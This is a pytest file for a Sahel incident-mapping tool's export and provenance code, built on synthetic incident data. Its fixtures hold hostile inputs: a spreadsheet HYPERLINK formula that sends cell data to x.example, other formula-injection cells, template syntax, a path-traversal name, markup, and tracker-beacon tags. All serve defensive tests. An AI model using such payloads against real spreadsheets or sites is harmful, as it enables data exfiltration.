"""Tests for the geo.export modules and geo.provenance on a hand-built analysis.

The analysis below is SYNTHETIC and built by hand, not by geo.pipeline.run_analysis:
its geometries are real bundled ones (the towns of Kayes, Kéniéba, Kita and Ségou, the
cercles of the same names, the two Dakar-Bamako routes, three bundled sites), but the four
incidents, every count, every exposure value and every figure are made up, small enough to
check by hand. The notes and actors carry hostile strings on purpose (formula injection,
Paragraph markup, template syntax).
"""

from __future__ import annotations

import dataclasses
import io
import json
import re
import subprocess
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import geopandas as gpd
import h3
import numpy as np
import pandas as pd
import pyogrio
import pyproj
import pytest
import rasterio
from affine import Affine
from PIL import Image
from shapely.geometry import Point

from geo import provenance
from geo.crs import METRIC_CRS, WGS84
from geo.errors import ExportError, ParameterError
from geo.export import atomic, raster, share, tabular, vector
from geo.export import html as ex_html
from geo.export import pdf as ex_pdf
from geo.export import png as ex_png
from geo.hotspots import KDEResult
from geo.io import bundled
from geo.pipeline import Analysis, Filters, Params
from geo.segments import segment_routes
from geo.validate import RowIssue, ValidationReport

LONG_NOTE = (
    "Synthetic note for the export tests, longer than the 254 characters a shapefile "
    "keeps: Kéniéba, Ségou and Kayes are written with their accents, and the text goes "
    "on with <b>bold</b> & ampersands, {{ 7*7 }} and ${x} so that nothing is parsed on the "
    "way out. It ends here after more than two hundred and fifty-four characters."
)
assert len(LONG_NOTE) > 254

HOSTILE_ACTOR = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _town(name: str) -> Point:
    towns = bundled.load_towns()
    hit = towns[(towns["name"] == name) & (towns["country"] == "MLI")]
    return hit.geometry.iloc[0]


def _incidents() -> gpd.GeoDataFrame:
    # SYNTHETIC events placed at real town points (see the module docstring).
    rows = [
        # event_id, date, category, fatalities, precise, town, actor1, notes, source
        ("T-1", "2025-06-02", "attack_on_convoy", 2, True, "Kayes", HOSTILE_ACTOR, LONG_NOTE,
         "news"),
        ("T-2", "2025-07-15", "abduction", 0, True, "Kéniéba", "+1", "@SUM(1+1)", "news"),
        ("T-3", "2025-08-20", "armed_attack", 1, False, "Kita", "JNIM", "\tTab first", "news"),
        ("T-4", "2025-09-30", "explosive", 0, True, "Ségou", "JNIM", "-6.2157", "ucdp"),
    ]  # fmt: skip
    frame = pd.DataFrame(
        {
            "event_id": [r[0] for r in rows],
            "source": [r[8] for r in rows],
            "event_date": pd.to_datetime([r[1] for r in rows]),
            "date_precision": "day",
            "event_type": "synthetic",
            "sub_event_type": "",
            "actor1": [r[6] for r in rows],
            "actor2": "",
            "fatalities": [r[3] for r in rows],
            "location": [r[5] for r in rows],
            "country": "Mali",
            "admin1": "",
            "admin2": "",
            "geo_precision": [1 if r[4] else 3 for r in rows],
            "precise": [r[4] for r in rows],
            "category": [r[2] for r in rows],
            "category_rule": "table",
            "notes": [r[7] for r in rows],
            "source_url": "https://example.org/report",
            "source_file": "synthetic.csv",
            "source_row": [2, 3, 4, 5],
            "country_iso3": "MLI",
            "adm2_name": [r[5] for r in rows],
        }
    )
    return gpd.GeoDataFrame(frame, geometry=[_town(r[5]) for r in rows], crs=WGS84)


def _admin_stats() -> gpd.GeoDataFrame:
    units = bundled.load_admin(2)
    units = units[units["name"].isin(["Kayes", "Kéniéba", "Kita", "Ségou"])].copy()
    # SYNTHETIC figures: one incident per unit now, two in Kayes before.
    units["incidents"] = 1
    units["fatalities"] = units["name"].map({"Kayes": 2, "Kita": 1}).fillna(0).astype(int)
    units["incidents_per_1000km2"] = 1000.0 / units["area_km2"]
    units["prev_incidents"] = units["name"].map({"Kayes": 2}).fillna(0).astype(int)
    units["change"] = units["incidents"] - units["prev_incidents"]
    units["change_pct"] = -6.2157  # a negative number must stay a number in CSV
    return units.reset_index(drop=True)


def _segments() -> gpd.GeoDataFrame:
    routes = bundled.load_routes()
    routes = routes[routes["route_id"].isin(["dakar_bamako_north", "dakar_bamako_south"])]
    seg = segment_routes(routes, segment_km=5.0, towns=bundled.load_towns()).to_crs(WGS84)
    # SYNTHETIC exposure: zero everywhere except three segments of the southern route.
    seg["exposure_per_km"] = 0.0
    south = seg.index[seg["route_id"] == "dakar_bamako_south"]
    seg.loc[south[150], "exposure_per_km"] = 3.5
    seg.loc[south[151], "exposure_per_km"] = 1.2
    seg.loc[south[200], "exposure_per_km"] = 0.4
    seg["exposure"] = seg["exposure_per_km"] * seg["length_km"]
    seg["n_incidents"] = (seg["exposure_per_km"] > 0).astype(int)
    seg["exposure_class"] = pd.cut(
        seg["exposure_per_km"],
        [-1, 0.25, 1.0, 3.0, 1e9],
        labels=["low", "medium", "high", "critical"],
    ).astype(str)
    return seg


def _route_summary() -> pd.DataFrame:
    labels = bundled.load_routes().set_index("route_id")["label"]
    # SYNTHETIC figures for the two Dakar alternatives.
    return pd.DataFrame(
        {
            "route_id": ["dakar_bamako_north", "dakar_bamako_south"],
            "label": [labels["dakar_bamako_north"], labels["dakar_bamako_south"]],
            "group": ["dakar", "dakar"],
            "origin": ["Dakar", "Dakar"],
            "length_km": [1354.3, 1252.4],
            "km_low": [1354.3, 1237.4],
            "km_medium": [0.0, 5.0],
            "km_high": [0.0, 5.0],
            "km_critical": [0.0, 5.0],
            "exposure_total": [0.0, 25.5],
            "mean_exposure_per_km": [0.0, 0.0204],
            "max_exposure_per_km": [0.0, 3.5],
            "n_incidents": [0, 2],
        }
    )


def _worst_stretches() -> pd.DataFrame:
    # SYNTHETIC stretches named after real towns on the southern route.
    return pd.DataFrame(
        {
            "route_id": ["dakar_bamako_south", "dakar_bamako_south"],
            "rank": [1, 2],
            "km_from": [750.0, 1000.0],
            "km_to": [760.0, 1005.0],
            "town_from": ["Kéniéba", "Kita"],
            "town_to": ["Kéniéba", "Kita"],
            "peak_exposure_per_km": [3.5, 0.4],
            "exposure_class": ["critical", "medium"],
        }
    )


def _sites() -> gpd.GeoDataFrame:
    sites = bundled.load_sites("points")
    ids = [
        "wm_ref_002",
        "wm_ref_004",
        sites.loc[sites["site_type"] == "industrial", "site_id"].iloc[0],
    ]
    sites = sites[sites["site_id"].isin(ids)].copy().reset_index(drop=True)
    # SYNTHETIC exposure figures.
    sites["is_key_site"] = sites["site_type"] != "industrial"
    sites["n_30d"] = [0, 1, 0]
    sites["n_90d"] = [1, 1, 0]
    sites["n_365d"] = [2, 1, 0]
    sites["nearest_km"] = [12.3, 41.0, np.nan]
    sites["nearest_date"] = pd.to_datetime(["2025-06-02", "2025-06-02", None])
    sites["trend"] = ["up", "flat", "flat"]
    sites["exposure_class"] = ["high", "low", "low"]
    return sites


def _kde(incidents: gpd.GeoDataFrame) -> KDEResult:
    # SYNTHETIC density: one Gaussian bump on a 60 x 60 grid of 5 km cells around Kayes.
    kayes = gpd.GeoSeries([_town("Kayes")], crs=WGS84).to_crs(METRIC_CRS).iloc[0]
    cell, n = 5000.0, 60
    x0, y1 = (
        round(kayes.x / cell) * cell - n / 2 * cell,
        round(kayes.y / cell) * cell + n / 2 * cell,
    )
    yy, xx = np.mgrid[0:n, 0:n]
    array = np.exp(-((xx - n / 2) ** 2 + (yy - n / 2) ** 2) / (2 * 3.0**2)).astype("float32")
    return KDEResult(
        array=array,
        transform=Affine(cell, 0.0, x0, 0.0, -cell, y1),
        crs=METRIC_CRS,
        bounds=(x0, y1 - n * cell, x0 + n * cell, y1),
        cell_m=cell,
        bandwidth_km=15.0,
        weight=None,
        unit="events per km²",
        n_used=3,
        n_left_out=1,
    )


def _hexes(incidents: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    precise = incidents[incidents["precise"]]
    cells = [h3.latlng_to_cell(p.y, p.x, 6) for p in precise.geometry]
    frame = pd.DataFrame(
        {"hex": cells, "incidents": 1, "fatalities": precise["fatalities"].to_numpy()}
    )
    frame = frame.groupby("hex", as_index=False).sum()
    polys = [share._h3_polygons([c])[0] for c in frame["hex"]]
    return gpd.GeoDataFrame(frame, geometry=polys, crs=WGS84)


def _report() -> ValidationReport:
    issues = (
        RowIssue.make("synthetic.csv", 7, "latitude", 95.2, "is outside -90..90", "rejected"),
        RowIssue.make("synthetic.csv", 3, "fatalities", "2 (est.)", "read as 2", "repaired"),
    )
    return ValidationReport("synthetic.csv", "csv", rows_in=12, rows_kept=11, issues=issues)


def make_analysis() -> Analysis:
    incidents = _incidents()
    return Analysis(
        filters=Filters(start=date(2025, 5, 1), end=date(2025, 11, 20), actors=("JNIM",)),
        params=Params(as_of=date(2025, 11, 20)),
        incidents=incidents,
        admin_stats=_admin_stats(),
        kde=_kde(incidents),
        hexes=_hexes(incidents),
        gistar=None,
        gistar_message="Too few events for Gi* (4, need 30).",
        surge=pd.DataFrame(
            columns=[
                "latest_week",
                "avg_week_prev_4",
                "latest_month",
                "avg_month_prev_12",
                "week_flag",
                "month_flag",
            ],
            index=pd.Index([], name="unit_id"),
        ),
        segments=_segments(),
        route_summary=_route_summary(),
        worst_stretches=_worst_stretches(),
        sites=_sites(),
        key_figures={
            "incidents": 4,
            "fatalities": 3,
            "abductions": 1,
            "convoy_attacks": 1,
            "site_attacks": 0,
            "prev_incidents": 2,
            "prev_fatalities": 5,
            "prev_abductions": 0,
            "prev_convoy_attacks": 1,
            "prev_site_attacks": 0,
        },  # fmt: skip
        left_out={"outside the window": 7, "imprecise location": 1},
        sources=["UCDP GED 21.1 (CC BY 4.0)", "News-compiled log 2024-2025 (cited reports)"],
        report=_report(),
        generated_at=datetime(2025, 11, 21, 10, 32, tzinfo=UTC),
        app_version="0.1.0-test",
    )


def empty_analysis(analysis: Analysis) -> Analysis:
    """The same analysis with no incident in the window (figures zero)."""
    inc = analysis.incidents.iloc[0:0]
    admin = analysis.admin_stats.assign(
        incidents=0, fatalities=0, incidents_per_1000km2=0.0, prev_incidents=0
    )
    seg = analysis.segments.assign(
        exposure_per_km=0.0, exposure=0.0, n_incidents=0, exposure_class="low"
    )
    return dataclasses.replace(
        analysis,
        incidents=inc,
        admin_stats=admin,
        kde=None,
        hexes=analysis.hexes.iloc[0:0],
        segments=seg,
        worst_stretches=analysis.worst_stretches.iloc[0:0],
        key_figures={k: 0 for k in analysis.key_figures},
    )


@pytest.fixture(scope="module")
def analysis() -> Analysis:
    return make_analysis()


@pytest.fixture(scope="module")
def basemap() -> ex_png.Basemap:
    return ex_png.load_basemap()


def _pdftotext(path: Path) -> str:
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout


def _pdfinfo(path: Path) -> dict[str, str]:
    out = subprocess.run(["pdfinfo", str(path)], check=True, capture_output=True, text=True).stdout
    return {k.strip(): v.strip() for k, _, v in (line.partition(":") for line in out.splitlines())}


# --------------------------------------------------------------------------- names


def test_safe_export_name_pattern_and_unique():
    names = {
        atomic.safe_export_name("brief", ".PDF", when=(date(2025, 5, 1), date(2025, 11, 20)))
        for _ in range(50)
    }
    assert len(names) == 50
    for name in names:
        assert name.startswith("sahel-risk-brief_2025-05-01_2025-11-20_")
        assert name.endswith(".pdf") and len(name) == 49
        assert all(c.isalnum() or c in "-_." for c in name)


@pytest.mark.parametrize(
    "kind, suffix",
    [
        pytest.param("../etc", "pdf", id="path in kind"),
        pytest.param("brief", "exe", id="unknown suffix"),
        pytest.param("Brief Report", "pdf", id="free text kind"),
    ],
)
def test_safe_export_name_refuses_anything_outside_the_closed_sets(kind, suffix):
    with pytest.raises(ParameterError, match="expected to be in"):
        atomic.safe_export_name(kind, suffix)


# --------------------------------------------------------------------------- atomic writes


def test_write_atomic_failure_mid_write_leaves_previous_file_and_no_temp(tmp_path):
    target = tmp_path / "out.pdf"
    target.write_bytes(b"OLD")

    def half_then_disk_full(tmp: Path) -> None:
        with open(tmp, "wb") as fh:
            fh.write(b"%PDF-half")
        raise OSError(28, "No space left on device")

    with pytest.raises(ExportError, match="No space left on device; nothing was written"):
        atomic.write_atomic(target, half_then_disk_full, verify=lambda tmp: None)
    assert target.read_bytes() == b"OLD"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.pdf"]


def test_write_atomic_missing_folder_and_bad_suffix(tmp_path):
    with pytest.raises(ExportError, match="the folder does not exist"):
        atomic.write_atomic(tmp_path / "nope" / "x.png", lambda t: None, verify=lambda t: None)
    with pytest.raises(ParameterError, match="is not one this export writes"):
        atomic.write_atomic(
            tmp_path / "x.txt", lambda t: None, verify=lambda t: None, suffixes=(".png",)
        )
    assert list(tmp_path.iterdir()) == []


def _fail(*args, **kwargs):
    raise ExportError("simulated verification failure")


@pytest.mark.parametrize(
    "module, verifier, suffix, call",
    [
        pytest.param(vector, "_verify_gpkg", ".gpkg", vector.export_gpkg, id="gpkg"),
        pytest.param(tabular, "_verify_zip", ".zip", tabular.export_csv_tables, id="zip"),
        pytest.param(
            raster, "_verify_geotiff", ".tif", raster.export_kde_geotiff, id="tif"
        ),
        pytest.param(
            atomic, "verify_bytes", ".html",
            lambda a, p: ex_html.export_html("<html><head></head><body>m</body></html>", p),
            id="html",
        ),
        pytest.param(ex_png, "_verify_png", ".png", lambda a, p: ex_png.export_png(a, p), id="png"),
        pytest.param(ex_pdf, "_verify_pdf", ".pdf", lambda a, p: ex_pdf.export_pdf(a, p), id="pdf"),
    ],
)  # fmt: skip
def test_failed_verification_leaves_nothing_behind(
    analysis, tmp_path, monkeypatch, module, verifier, suffix, call
):
    target = tmp_path / f"previous{suffix}"
    target.write_bytes(b"previous complete file")
    monkeypatch.setattr(module, verifier, _fail)
    with pytest.raises(ExportError, match="simulated verification failure"):
        call(analysis, target)
    assert target.read_bytes() == b"previous complete file"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


# --------------------------------------------------------------------------- provenance and sharing


def test_provenance_record(analysis):
    prov = provenance.build_provenance(analysis)
    assert prov["period"] == {"start": "2025-05-01", "end": "2025-11-20", "days": 204}
    assert prov["as_of"] == "2025-11-20"
    assert prov["validation"] == {
        "rows_in": 12,
        "kept": 11,
        "repaired": 1,
        "rejected": 1,
        "files": "synthetic.csv",
    }
    assert prov["left_out"] == {"outside the window": 7, "imprecise location": 1}
    assert prov["filters"]["actors"] == ["JNIM"]
    assert prov["parameters"]["buffer_km"] == 25.0
    assert {a["licence"] for a in prov["attributions"]} >= {"CC BY 4.0", "public domain"}
    assert prov["shared"] is False and prov["share_note"] is None
    json.dumps(prov)  # JSON-ready
    lines = provenance.provenance_lines(prov)
    assert any("Left out: 7 outside the window; 1 imprecise location." in line for line in lines)


def test_incidents_digest_changes_with_the_events(analysis):
    same = provenance.build_provenance(make_analysis())["incidents_digest"]
    assert provenance.build_provenance(analysis)["incidents_digest"] == same
    fewer = dataclasses.replace(analysis, incidents=analysis.incidents.iloc[1:])
    assert provenance.build_provenance(fewer)["incidents_digest"] != same


def test_share_safe_coarsens_and_drops(analysis):
    before = analysis.incidents.copy()
    shared = share.share_safe_analysis(analysis)
    pd.testing.assert_frame_equal(analysis.incidents, before)  # input untouched
    inc = shared.incidents
    for col in (
        "actor1",
        "actor2",
        "notes",
        "source_url",
        "location",
        "event_id",
        "source_file",
        "source_row",
    ):
        assert col not in inc.columns
    assert set(inc.geom_type) == {"Polygon"}
    assert {h3.get_resolution(c) for c in inc["h3_cell"]} == {5}
    # every original point lies in its coarsened cell
    assert all(cell.covers(pt) for cell, pt in zip(inc.geometry, before.geometry, strict=True))
    assert shared.kde is None
    assert shared.hexes["incidents"].sum() == analysis.hexes["incidents"].sum()
    assert {h3.get_resolution(c) for c in shared.hexes["hex"]} == {5}
    assert share.SHARE_NOTE in shared.notes
    assert share.share_safe_analysis(shared) is shared  # idempotent
    prov = provenance.build_provenance(shared)
    assert prov["shared"] is True and prov["share_note"] == share.SHARE_NOTE
    assert prov["filters"]["actors"] == "1 actor filter(s), names withheld"
    assert "JNIM" not in json.dumps(prov)


# --------------------------------------------------------------------------- GeoPackage


def test_gpkg_round_trip(analysis, tmp_path):
    path = vector.export_gpkg(analysis, tmp_path / "layers.gpkg")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["layers.gpkg"]
    layers = {str(name): geom for name, geom in pyogrio.list_layers(path)}
    expected = {
        "admin_stats": len(analysis.admin_stats),
        "hexes": len(analysis.hexes),
        "route_segments": len(analysis.segments),
        "sites": len(analysis.sites),
        "incidents_used": len(analysis.incidents),
        "route_summary": 2,
        "worst_stretches": 2,
        "surge": 0,
    }
    assert set(expected) | {"provenance"} == set(layers)  # no gistar: not computed
    for name, n in expected.items():
        info = pyogrio.read_info(path, layer=name)
        assert info["features"] == n, name
        if layers[name] is not None:
            assert info["crs"] == "EPSG:4326"
    back = pyogrio.read_dataframe(path, layer="incidents_used")
    assert back.loc[back["event_id"] == "T-1", "notes"].iloc[0] == LONG_NOTE  # > 254 chars kept
    assert back["actor1"].tolist() == analysis.incidents["actor1"].tolist()
    assert back["fatalities"].tolist() == [2, 0, 1, 0]
    assert back.geometry.geom_equals_exact(
        analysis.incidents.geometry.reset_index(drop=True), 1e-9
    ).all()
    prov = pyogrio.read_dataframe(path, layer="provenance")
    record = json.loads(prov.loc[prov["key"] == "provenance_json", "value"].iloc[0])
    assert record["validation"]["rejected"] == 1
    assert json.loads(pyogrio.read_info(path, layer="provenance")["dataset_metadata"]["provenance"])


def test_gpkg_share_safe_has_no_actors_or_notes(analysis, tmp_path):
    path = vector.export_gpkg(analysis, tmp_path / "shared.gpkg", share_safe=True)
    inc = pyogrio.read_dataframe(path, layer="incidents_used")
    assert not {"actor1", "actor2", "notes", "source_url", "event_id"} & set(inc.columns)
    assert set(inc.geom_type) <= {"Polygon", "MultiPolygon"}
    prov = pyogrio.read_dataframe(path, layer="provenance")
    assert prov.loc[prov["key"] == "share_note", "value"].iloc[0] == share.SHARE_NOTE
    assert "JNIM" not in " ".join(prov["value"])


# --------------------------------------------------------------------------- CSV


def _csv(zf: zipfile.ZipFile, name: str) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(zf.read(name)), encoding="utf-8-sig", keep_default_na=False)


def test_csv_tables_neutralise_formulas_but_keep_numbers(analysis, tmp_path):
    path = tabular.export_csv_tables(analysis, tmp_path / "tables.zip")
    with zipfile.ZipFile(path) as zf:
        assert {"incidents_used.csv", "admin_stats.csv", "provenance.csv", "left_out.csv"} <= set(
            zf.namelist()
        )
        inc = _csv(zf, "incidents_used.csv")
        admin = _csv(zf, "admin_stats.csv")
    assert inc["actor1"].tolist() == ["'" + HOSTILE_ACTOR, "'+1", "JNIM", "JNIM"]
    assert inc["notes"].tolist()[1:] == ["'@SUM(1+1)", "'\tTab first", "'-6.2157"]
    assert pd.api.types.is_float_dtype(inc["longitude"]) and (inc["longitude"] < 0).all()
    assert pd.api.types.is_float_dtype(admin["change_pct"])
    assert admin["change_pct"].tolist() == [-6.2157] * len(admin)


def test_csv_tables_into_a_new_folder_then_over_it(analysis, tmp_path):
    folder = tabular.export_csv_tables(analysis, tmp_path / "tables")
    assert folder.is_dir() and (folder / "route_summary.csv").is_file()
    assert [p.name for p in tmp_path.iterdir()] == ["tables"]  # no temporary folder left
    names = sorted(p.name for p in folder.iterdir())
    (folder / "left_out.csv").write_text("stale")
    tabular.export_csv_tables(analysis, folder)  # an existing folder: each file replaced
    assert sorted(p.name for p in folder.iterdir()) == names
    assert (folder / "left_out.csv").read_text(encoding="utf-8-sig").startswith("reason,events")


# --------------------------------------------------------------------------- GeoTIFF


def test_kde_geotiff_round_trip(analysis, tmp_path):
    path = raster.export_kde_geotiff(analysis, tmp_path / "kde.tif")
    with rasterio.open(path) as ds:
        assert (ds.height, ds.width) == analysis.kde.array.shape
        assert ds.transform.almost_equals(analysis.kde.transform)
        assert ds.crs.to_wkt() and ds.crs.is_projected
        assert METRIC_CRS.name in ds.crs.to_wkt()  # QGIS showed "unknown" (issue 12 item 5)
        assert pyproj.CRS.from_wkt(ds.crs.to_wkt()).name == METRIC_CRS.name
        assert pyproj.CRS.from_wkt(ds.crs.to_wkt()) == METRIC_CRS
        assert "standard parallels 7N and 16N" in ds.tags()["crs_description"]
        assert json.loads(ds.tags()["provenance"])["period"]["days"] == 204
    with pytest.raises(ExportError, match="sharing preset leaves the KDE surface out"):
        raster.export_kde_geotiff(analysis, tmp_path / "shared.tif", share_safe=True)


# --------------------------------------------------------------------------- HTML

PAGE = (
    "<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>"
    "<div id='map'></div><a href='https://www.openstreetmap.org/copyright'>© OpenStreetMap</a>"
    "</body></html>"
)


def test_html_written_with_provenance(analysis, tmp_path):
    prov = provenance.build_provenance(analysis)
    prov["data_sources"].append("tricky --> label")
    path = ex_html.export_html(PAGE, tmp_path / "map.html", provenance=prov)
    text = path.read_text(encoding="utf-8")
    assert '<meta name="sahel-risk-map-provenance"' in text
    head = text[: text.index("</head>")]
    assert head.count("-->") == 1  # only the comment's own end
    assert "openstreetmap.org/copyright" in text  # a link is not an asset


@pytest.mark.parametrize(
    ("measure", "title"),
    [
        ("incidents", "Incidents per unit: Incidents"),
        ("incidents_per_1000km2", "Incidents per unit: Incidents per 1,000 km\\u00b2"),
        ("change", "Incidents per unit: Change in incidents against the previous window"),
    ],
)
def test_html_map_colours_units_by_the_chosen_measure(analysis, measure, title):
    from ui.exports import html_export_text

    page = html_export_text(analysis, method="admin", measure=measure, share_safe=False)
    assert f'btn.innerHTML = "{title}";' in page  # the legend of the units' colours
    assert page.count('btn.innerHTML = "Incidents per unit: ') == 1


@pytest.mark.parametrize(
    "asset",
    [
        '<script src="https://cdn.example/leaflet.js"></script>',
        '<link rel="stylesheet" href="//cdn.example/leaflet.css">',
        '<img src="http://tracker.example/beacon.png">',
        "<style>.x{background:url(https://cdn.example/i.png)}</style>",
        "<style>@import 'https://cdn.example/x.css';</style>",
        '<script>L.tileLayer("https://{s}.tile.openstreetmap.org/{z}/{x}/{y}.png")</script>',
    ],
)
def test_html_with_online_assets_is_refused(tmp_path, asset):
    page = PAGE.replace("</body>", asset + "</body>")
    with pytest.raises(ExportError, match="loads 1 asset"):
        ex_html.export_html(page, tmp_path / "map.html")
    assert list(tmp_path.iterdir()) == []


def test_html_refuses_text_that_is_not_a_page(tmp_path):
    with pytest.raises(ExportError, match="not an HTML page"):
        ex_html.export_html("just text", tmp_path / "map.html")


# --------------------------------------------------------------------------- PNG


def test_png_map_size_metadata_and_labels(analysis, basemap, tmp_path):
    png, info = ex_png.render_map_png(analysis, handling="RESTRICTED", basemap=basemap)
    assert info["width_px"] == 2000
    assert "Kéniéba" in info["towns_labelled"]  # named by a worst stretch: labelled first
    path = ex_png.export_png(analysis, tmp_path / "map.png", handling="RESTRICTED", basemap=basemap)
    with Image.open(path) as im:
        assert im.format == "PNG" and im.width == 2000 and im.height > 1000
        text = dict(im.text)
    prov = json.loads(text["provenance"])
    assert prov["period"]["start"] == "2025-05-01" and prov["left_out"]["imprecise location"] == 1
    assert text["Warning"] == "RESTRICTED"
    assert "OpenStreetMap" in text["Copyright"]


def test_png_share_safe_and_empty_render(analysis, basemap, tmp_path):
    shared = ex_png.export_png(analysis, tmp_path / "shared.png", share_safe=True, basemap=basemap)
    with Image.open(shared) as im:
        assert json.loads(im.text["provenance"])["shared"] is True
    empty = ex_png.export_png(
        empty_analysis(analysis), tmp_path / "empty.png", width_px=1600, basemap=basemap
    )
    with Image.open(empty) as im:
        assert im.width == 1600


@pytest.mark.parametrize(
    "kwargs, match",
    [
        ({"width_px": 1000}, "width_px was 1000"),
        ({"layers": ("admin", "heatmap")}, "expected to be in"),
        ({"extent": (10, 5, -10, 15)}, "min < max"),
        ({"handling": "X" * 61}, "keep it to 60"),
    ],
)
def test_png_options_are_checked(analysis, basemap, tmp_path, kwargs, match):
    with pytest.raises(ParameterError, match=match):
        ex_png.export_png(analysis, tmp_path / "x.png", basemap=basemap, **kwargs)
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- PDF


@pytest.fixture(scope="module")
def brief(analysis, basemap, tmp_path_factory) -> tuple[Path, str, dict[str, str]]:
    path = ex_pdf.export_pdf(
        analysis, tmp_path_factory.mktemp("pdf") / "brief.pdf", basemap=basemap
    )
    return path, _pdftotext(path), _pdfinfo(path)


def test_pdf_content(brief, analysis):
    path, text, info = brief
    pages = int(info["Pages"])
    assert 4 <= pages <= 12
    flat = " ".join(text.split())
    for expected in (
        "Incident exposure briefing",
        "Period 2025-05-01 to 2025-11-20 (204 days)",
        "Generated 2025-11-21 10:32 UTC",
        "Key figures",
        "Incidents 4 2 +2 (+100 %)",
        "Fatalities 3 5 −2 (−40 %)",
        "Kéniéba",  # worst stretch towns
        "Kita",
        "Dakar–Bamako south",
        "CC BY 4.0",
        "ODbL 1.0",
        "public domain",
        "Rows read 12, kept 11 (repaired 1), rejected 1",
        "Left out, and why",
        "7 event date outside the analysis window",
        "no incidents for 2021-2023",
        "incident exposure",
        "Sadiola Gold Mine",
        f"Page 1 of {pages}",
        f"Page {pages} of {pages}",
    ):
        assert expected in flat, expected
    assert text.count("RESTRICTED") == 2 * pages  # header and footer of every page
    assert "safe" not in text.lower()
    assert flat.index("Sadiola Gold Mine") < flat.index("industrial area")  # key sites first


def test_pdf_front_page_holds_the_top_units_table(brief):
    # Issue 12 item 5: after the map the table sat alone on a half-empty page.
    pages = brief[1].split("\f")
    heading = re.compile(r"Top \w+ by incidents")
    assert heading.search(pages[0]) and "Key figures" in pages[0]
    assert "Where incidents concentrate" in pages[1] and not heading.search(pages[1])


def test_pdf_metadata_and_pages_render(brief, tmp_path):
    path, _, info = brief
    assert info["Title"].startswith("Incident exposure briefing, 2025-05-01 to 2025-11-20")
    prov = json.loads(info["Keywords"])
    assert prov["validation"]["kept"] == 11 and prov["app_version"] == "0.1.0-test"
    assert info["CreationDate"].startswith("Fri Nov 21 10:32:00 2025")
    subprocess.run(
        ["pdftoppm", "-r", "40", "-png", "-f", "1", "-l", "2", str(path), str(tmp_path / "pg")],
        check=True,
    )
    rendered = sorted(tmp_path.glob("pg-*.png"))
    assert len(rendered) == 2
    with Image.open(rendered[0]) as im:
        assert im.width > 300


def test_pdf_escapes_markup_from_data(analysis, basemap, tmp_path):
    # SYNTHETIC hostile site name: reportlab's Paragraph markup must be shown, not parsed.
    sites = analysis.sites.copy()
    sites.loc[0, "name"] = 'Mine <b>&</b> <font size="40">X</font> & Co'
    hostile = dataclasses.replace(analysis, sites=sites, sources=["log <i>&amp;"])
    path = ex_pdf.export_pdf(hostile, tmp_path / "hostile.pdf", handling=None, basemap=basemap)
    flat = " ".join(_pdftotext(path).split())
    # the cell wraps after "<font"; both halves are there, verbatim
    assert "Mine <b>&</b> <font" in flat and 'size="40">X</font> & Co' in flat
    assert "log <i>&amp;" in flat
    assert "RESTRICTED" not in flat


def test_pdf_route_table_says_no_meaningful_difference_instead_of_a_rank(
    analysis, basemap, tmp_path
):
    # SYNTHETIC: trip exposures 25.0 and 25.5, inside the tie rule (Settings.route_tie_share).
    close = _route_summary().assign(exposure_total=[25.0, 25.5])
    path = ex_pdf.export_pdf(
        dataclasses.replace(analysis, route_summary=close), tmp_path / "tie.pdf", basemap=basemap
    )
    flat = " ".join(_pdftotext(path).split())
    assert "Rank (1 = least exposure) No meaningful difference No meaningful difference" in flat
    assert "no meaningful difference in incident exposure over the trip (25.0 and 25.5)" in flat


def test_pdf_share_safe_says_so_and_names_no_actor(analysis, basemap, tmp_path):
    path = ex_pdf.export_pdf(analysis, tmp_path / "shared.pdf", share_safe=True, basemap=basemap)
    flat = " ".join(_pdftotext(path).split())
    assert "Prepared for sharing: incident locations coarsened to H3 resolution-5 cells" in flat
    assert "JNIM" not in flat and "JNIM" not in _pdfinfo(path)["Keywords"]


def test_pdf_empty_window_is_a_valid_briefing_that_says_so(analysis, basemap, tmp_path):
    path = ex_pdf.export_pdf(empty_analysis(analysis), tmp_path / "empty.pdf", basemap=basemap)
    flat = " ".join(_pdftotext(path).split())
    assert "No incidents in this window with the filters used." in flat
    assert "No stretch has any incident exposure in this window." in flat
    assert int(_pdfinfo(path)["Pages"]) >= 3


def test_png_title_block_and_footer_in_french(analysis, basemap):
    from geo.export.png.layout import rc

    with rc():
        fig, _, _ = ex_png._draw_map(analysis, basemap=basemap, width_px=1600, lang="fr")
        texts = " ".join(t.get_text() for t in fig.findobj(lambda o: hasattr(o, "get_text")))
    assert "Exposition aux incidents — ouest du Mali" in texts
    assert "Période 1 mai 2025 – 20 nov. 2025" in texts
    assert "l'absence d'incident signalé n'est pas l'absence de risque" in texts
    assert "Incident exposure — western" not in texts  # the provenance record stays English


def test_pdf_in_french_reads_as_a_french_briefing(analysis, basemap, tmp_path):
    from babel.messages.pofile import read_po

    from geo.i18n import LOCALE_DIR

    path = ex_pdf.export_pdf(analysis, tmp_path / "fr.pdf", basemap=basemap, lang="fr")
    flat = " ".join(_pdftotext(path).split())
    for expected in (
        "Note d'exposition aux incidents",
        "Chiffres clés",
        "Période 1 mai 2025 – 20 nov. 2025",  # French date
        "Incidents 4 2 +2 (+100 %)",
        "Exposition aux incidents des axes routiers",
        "Kéniéba",
    ):
        assert expected in flat, expected
    assert "Page 1 sur" in flat and "Sécurisé" not in flat and "sûr" not in flat
    catalog = []
    for po in sorted((LOCALE_DIR / "fr" / "LC_MESSAGES").glob("*.po")):
        with po.open("rb") as fh:
            catalog.extend(read_po(fh))
    english = [
        m.id
        for m in catalog
        if m.id and m.string and m.id != m.string and "{" not in m.id and "<" not in m.id
    ]
    assert len(english) >= 20
    # the whole briefing, method table and provenance record included, is French
    assert "Étape Ce qui a été calculé" in flat and "Provenance" in flat
    # the provenance record names the software as it identifies itself ("Sahel Risk Map 0.1.0")
    assert [e for e in english if len(e) > 12 and e in flat and e != "Sahel Risk Map"] == []
    assert _pdfinfo(path)["Title"].startswith("Note d'exposition aux incidents, 1 mai 2025")
